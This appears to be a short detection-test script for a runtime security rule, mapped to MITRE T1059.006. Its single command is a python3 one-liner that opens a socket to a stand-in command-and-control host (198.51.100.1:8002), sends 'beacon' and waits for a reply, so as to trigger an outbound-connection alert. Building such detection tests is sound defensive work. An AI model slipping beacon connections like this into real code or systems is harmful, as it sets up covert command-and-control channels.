#!/bin/sh
# title: Interpreter one-liner started from a shell calls out (C2 beacon)
# technique: T1059.006 Command and Scripting Interpreter: Python
# source: https://attack.mitre.org/techniques/T1059/006/ ; Falco "Interpreted procs outbound network activity"
# expect: Outbound connection by an interpreter started from a shell
# needs: python
# peer: 198.51.100.1:8002
# nonroot: yes
python3 -c "import socket; s = socket.create_connection(('198.51.100.1', 8002)); s.sendall(b'beacon\n'); s.recv(64)"
true
